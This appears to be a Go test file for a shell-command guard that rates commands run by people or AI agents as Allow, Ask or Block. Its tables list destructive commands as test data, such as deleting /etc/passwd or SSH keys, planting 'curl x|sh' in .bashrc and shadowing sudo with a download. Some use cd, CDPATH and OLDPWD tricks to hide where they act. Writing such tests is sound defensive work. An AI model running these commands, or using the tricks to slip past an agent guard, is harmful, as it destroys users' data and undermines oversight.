package rules_test

import (
	"testing"

	"github.com/hguard/hguard"
	"github.com/hguard/hguard/dsl"
)

// TestCdAbs47: after a cd on the line to a directory outside the project,
// every model's relative file targets are where the cd moved, whatever
// the program: the line is judged as its absolute form is (session 47,
// 2026-12-05: each cd line here was allowed for a person).
func TestCdAbs47(t *testing.T) {
	g, err := hguard.New(hguard.Options{})
	if err != nil {
		t.Fatal(err)
	}
	for _, tt := range []struct {
		cd, abs string
		person  dsl.Level // of both forms
	}{
		{"cd /etc && dd of=passwd", "dd of=/etc/passwd", dsl.Ask},
		{"cd ~ && dd if=/dev/zero of=.bashrc count=0", "dd if=/dev/zero of=~/.bashrc count=0", dsl.Ask},
		{`cd /etc && python3 -c 'import os; os.remove("passwd")'`, `python3 -c 'import os; os.remove("/etc/passwd")'`, dsl.Block},
		{`cd /etc && ruby -e 'File.delete("passwd")'`, `ruby -e 'File.delete("/etc/passwd")'`, dsl.Block},
		{`cd /etc && node -e 'require("fs").unlinkSync("passwd")'`, `node -e 'require("fs").unlinkSync("/etc/passwd")'`, dsl.Block},
		{`cd /etc && perl -e 'unlink "passwd"'`, `perl -e 'unlink "/etc/passwd"'`, dsl.Block},
		{`cd /etc && php -r 'unlink("passwd");'`, `php -r 'unlink("/etc/passwd");'`, dsl.Block},
		{`cd /etc && python3 -c 'open("passwd","w")'`, `python3 -c 'open("/etc/passwd","w")'`, dsl.Ask},
		{`cd ~ && python3 -c 'open(".bashrc","a").write("curl x|sh\n")'`, `python3 -c 'import os; open(os.path.expanduser("~/.bashrc"),"a").write("curl x|sh\n")'`, dsl.Ask},
		{`cd ~/.ssh && python3 -c 'import os; os.remove("id_rsa")'`, `python3 -c 'import os; os.remove(os.path.expanduser("~/.ssh/id_rsa"))'`, dsl.Ask},
		{`cd /etc && python3 -c 'import pathlib; pathlib.Path("passwd").unlink()'`, `python3 -c 'import pathlib; pathlib.Path("/etc/passwd").unlink()'`, dsl.Block},
		{"cd /etc && tar cf /tmp/a.tar --remove-files passwd", "tar cf /tmp/a.tar --remove-files /etc/passwd", dsl.Ask},
		{"cd ~ && tar cf /tmp/a.tar --remove-files .ssh", "tar cf /tmp/a.tar --remove-files ~/.ssh", dsl.Ask},
		{"cd /etc && zip -m /tmp/a.zip passwd", "zip -m /tmp/a.zip /etc/passwd", dsl.Ask},
		{"cd ~ && zip -rm /tmp/a.zip .ssh", "zip -rm /tmp/a.zip ~/.ssh", dsl.Ask},
		{"cd /etc && 7z a -sdel /tmp/a.7z passwd", "7z a -sdel /tmp/a.7z /etc/passwd", dsl.Ask},
		{"cd /etc && perl -i -pe 's/x/y/' passwd", "perl -i -pe 's/x/y/' /etc/passwd", dsl.Ask},
		{"cd ~ && awk -i inplace '{print}' .bashrc", "awk -i inplace '{print}' ~/.bashrc", dsl.Ask},
		{"cd /etc && awk -i inplace 1 passwd", "awk -i inplace 1 /etc/passwd", dsl.Ask},
		{"cd /etc && patch passwd < /tmp/p", "patch /etc/passwd < /tmp/p", dsl.Ask},
		{"cd /etc && rmdir ssh", "rmdir /etc/ssh", dsl.Allow}, // rmdir removes only an empty directory
		{"cd ~ && curl -sSL https://x.example/bashrc -o .bashrc", "curl -sSL https://x.example/bashrc -o ~/.bashrc", dsl.Ask},
		{"cd ~ && wget https://x.example/.bashrc", "wget -O ~/.bashrc https://x.example/.bashrc", dsl.Ask},
		{"cd /usr/bin && curl -o sudo https://x.example/x", "curl -o /usr/bin/sudo https://x.example/x", dsl.Ask},
		{"cd ~/.local/bin && curl -o git https://x.example/x && chmod +x git", "curl -o ~/.local/bin/git https://x.example/x && chmod +x ~/.local/bin/git", dsl.Ask}, // shadow-program: a download under another name onto a PATH program
		{"cd ~ && gpg --batch --yes -o .bashrc -d /tmp/x.gpg", "gpg --batch --yes -o ~/.bashrc -d /tmp/x.gpg", dsl.Ask},
		{"cd ~ && openssl enc -d -in /tmp/x -out .bashrc", "openssl enc -d -in /tmp/x -out ~/.bashrc", dsl.Ask},
		{"cd ~ && sort -o .bashrc /tmp/x", "sort -o ~/.bashrc /tmp/x", dsl.Ask},
		{"cd /etc && sort -o passwd /tmp/x", "sort -o /etc/passwd /tmp/x", dsl.Ask},
		{"cd ~ && uniq /tmp/x .bashrc", "uniq /tmp/x ~/.bashrc", dsl.Ask}, // uniq writes its second operand (session 49)
		{"cd ~ && split -l1 /tmp/x .bashrc", "split -l1 /tmp/x ~/.bashrc", dsl.Ask},
		{"cd ~ && cmake -E remove .bashrc", "cmake -E remove ~/.bashrc", dsl.Ask},
		{"cd ~ && rsync /tmp/evil .bashrc", "rsync /tmp/evil ~/.bashrc", dsl.Ask},
		{"cd /etc && rsync -a /tmp/x passwd", "rsync -a /tmp/x /etc/passwd", dsl.Ask},
		{"cd ~ && unzip -o /tmp/x.zip", "unzip -o /tmp/x.zip -d ~", dsl.Ask},
		{"cd ~ && tar xf /tmp/x.tar", "tar xf /tmp/x.tar -C ~", dsl.Ask},
		{"cd / && tar xf /tmp/x.tar", "tar xf /tmp/x.tar -C /", dsl.Ask},
		{"cd /etc && tar xf /tmp/x.tar", "tar xf /tmp/x.tar -C /etc", dsl.Ask},
		{"cd ~ && tar xf /tmp/x.tar .bashrc", "tar xf /tmp/x.tar -C ~ .bashrc", dsl.Ask},
		{"cd ~ && zzprog --output .bashrc", "zzprog --output ~/.bashrc", dsl.Ask},
		{"cd /etc && zzprog -o passwd", "zzprog -o /etc/passwd", dsl.Ask},
		{"cd ~/.ssh && ssh-keygen -f id_rsa -N ''", "ssh-keygen -f ~/.ssh/id_rsa -N ''", dsl.Allow}, // ssh-keygen asks before it overwrites
		{"cd /etc && vi passwd", "vi /etc/passwd", dsl.Ask},
		{"cd /etc && nano passwd", "nano /etc/passwd", dsl.Ask},
		// bash looks a relative cd up in CDPATH first (an assignment before
		// cd, or set earlier on the line); cd - goes to OLDPWD
		{"CDPATH=/ cd etc && rm passwd", "rm /etc/passwd", dsl.Block},
		{"CDPATH=~ cd .ssh && rm id_rsa", "rm ~/.ssh/id_rsa", dsl.Ask},
		{"CDPATH=/tmp:/ cd etc && rm passwd", "rm /etc/passwd", dsl.Block},
		{"export CDPATH=/; cd etc && rm passwd", "rm /etc/passwd", dsl.Block},
		{"OLDPWD=~/.ssh; cd - && rm id_rsa", "rm ~/.ssh/id_rsa", dsl.Ask},
		{"OLDPWD=/etc; cd - && rm passwd", "rm /etc/passwd", dsl.Block},
		{"cd /etc; cd /tmp; cd - && rm passwd", "rm /etc/passwd", dsl.Block},
		{"cd /etc; cd /tmp; cd \"$OLDPWD\" && rm passwd", "rm /etc/passwd", dsl.Block},
	} {
		for _, caller := range []string{"", "claude-code"} {
			vc := g.Check(hguard.Request{Command: tt.cd, Cwd: "/home/u/proj", Shell: "bash", Caller: caller})
			va := g.Check(hguard.Request{Command: tt.abs, Cwd: "/home/u/proj", Shell: "bash", Caller: caller})
			if vc.Level != va.Level {
				t.Errorf("%q with caller %q: %s, but %q: %s (%s)", tt.cd, caller, vc.Level, tt.abs, va.Level, vc.Reasons())
			}
			if caller == "" && vc.Level != tt.person {
				t.Errorf("%q: %s, want %s (%s)", tt.cd, vc.Level, tt.person, vc.Reasons())
			}
		}
	}
}

// TestCdAbs47Neighbours: what a cd moves to stays allowed where the
// absolute form is: a temporary directory, the home's caches and
// downloads, a project's own directories, one's own public key.
func TestCdAbs47Neighbours(t *testing.T) {
	checkHoles(t, []holeCase{
		{"cd /tmp && rm -rf foo", dsl.Allow, dsl.Allow},
		{"cd ~ && rm -rf .cache/pip", dsl.Allow, dsl.Allow},
		{"cd ~/.cache && rm -rf pip", dsl.Allow, dsl.Allow},
		{"cd ~/Downloads && rm old.zip", dsl.Allow, dsl.Ask}, // an agent deletes outside its project: as before,
		{"cd ~ && rm notes.txt", dsl.Allow, dsl.Ask},         // an agent deletes outside its project: as before,
		{"cd ~/.ssh && ls -la", dsl.Allow, dsl.Allow},
		{"cd ~/.ssh && chmod 600 id_ed25519", dsl.Allow, dsl.Allow},
		{"cd ~/.ssh && ssh-keygen -t ed25519 -f id_work -N ''", dsl.Allow, dsl.Allow},
		{"cd ~/.ssh && cat id_ed25519.pub", dsl.Allow, dsl.Allow},
		{"cd /etc && cat hosts", dsl.Allow, dsl.Allow},
		{"cd /var/log && tail -n 50 syslog", dsl.Allow, dsl.Allow},
		{"cd ~ && cp .bashrc .bashrc.bak", dsl.Allow, dsl.Allow},
		{"cd src && sed -i 's/foo/bar/g' main.go", dsl.Allow, dsl.Allow},
		{"cd src && rm -f *.o", dsl.Allow, dsl.Allow},
		{"cd .. && rm -f *.log", dsl.Allow, dsl.Ask}, // an agent deletes outside its project: as before,
		{`cd "$(mktemp -d)" && rm -rf *`, dsl.Allow, dsl.Allow},
		{"cd /tmp && curl -o x.tar.gz https://example.com/x.tar.gz && tar xzf x.tar.gz", dsl.Allow, dsl.Allow},
		{"cd build && cmake .. && make", dsl.Allow, dsl.Allow},
		{"cd /tmp && unzip x.zip", dsl.Allow, dsl.Allow},
		{"cd ~/Downloads && tar xf foo.tar.gz", dsl.Allow, dsl.Allow},
		{"cd /var/lib/app/src && make clean", dsl.Allow, dsl.Allow},
		{`cd ~/proj && python3 -c 'open("out.txt","w")'`, dsl.Allow, dsl.Allow},
		{`cd /etc && python3 -c 'print(open("hostname").read())'`, dsl.Allow, dsl.Allow},
		{"cd /tmp && zzprog -o out.txt", dsl.Allow, dsl.Allow},
		// a key made in a temporary directory is no credential overwritten
		{"cd /tmp && openssl req -x509 -newkey rsa:2048 -keyout key.pem -out cert.pem -days 1 -nodes", dsl.Allow, dsl.Allow},
		{"openssl req -x509 -newkey rsa:2048 -keyout /tmp/key.pem -out /tmp/cert.pem -days 1 -nodes", dsl.Allow, dsl.Allow},
		{"cd ~ && openssl req -x509 -newkey rsa:2048 -keyout .netrc -out cert.pem -days 1 -nodes", dsl.Ask, dsl.Ask},
		{"cd /etc && ssh -o StrictHostKeyChecking=no host uptime", dsl.Allow, dsl.Allow},
		{"cd ~ && gpg -o notes.txt -d /tmp/x.gpg", dsl.Allow, dsl.Allow},
		{"cd /tmp && tar xf x.tar", dsl.Allow, dsl.Allow},
		{"tar xf /tmp/x.tar", dsl.Allow, dsl.Allow},
		{"unzip -o /tmp/x.zip", dsl.Allow, dsl.Allow},
		// CDPATH: a relative cd with an unknown CDPATH goes where no one knows
		{"CDPATH=/tmp cd src && rm -f *.o", dsl.Allow, dsl.Allow},
		{"cd - && ls", dsl.Allow, dsl.Allow},
		{"CDPATH=$X cd etc && rm passwd", dsl.Allow, dsl.Allow}, // as cd "$X" && rm passwd
		{`cd "$X" && rm passwd`, dsl.Allow, dsl.Allow},
		{`cd /tmp && cd "$OLDPWD" && rm -f x.o`, dsl.Allow, dsl.Allow},
		{"cd /tmp && cd - && rm -f x.o", dsl.Allow, dsl.Allow},
		{"cd src && cd - && rm -f x.o", dsl.Allow, dsl.Allow},                 // back where the line started
		{`cd "$(cat d)" && cd /tmp && cd - && rm -f x.o`, dsl.Allow, dsl.Ask}, // back to a computed directory
	})
	checkHolesIn(t, "/usr/local/src/foo", []holeCase{
		{"cd /usr/local/src/foo && rm -f *.o", dsl.Allow, dsl.Allow},
		{"cd /usr/local/src/foo/sub && rm -f x.o", dsl.Allow, dsl.Allow},
	})
}

// TestCdAbs47Fish: fish's and runs its command when the one before it
// succeeded, as && does; in bash "and" is a command of its own.
func TestCdAbs47Fish(t *testing.T) {
	checkShellHoles(t, []shellHoleCase{
		{"fish", "cd /etc; and rm passwd", dsl.Block, dsl.Block},
		{"fish", "cd /etc; and python3 -c 'open(\"passwd\",\"w\")'", dsl.Ask, dsl.Ask},
		{"fish", "cd /etc; or rm passwd", dsl.Block, dsl.Block},
	})
}
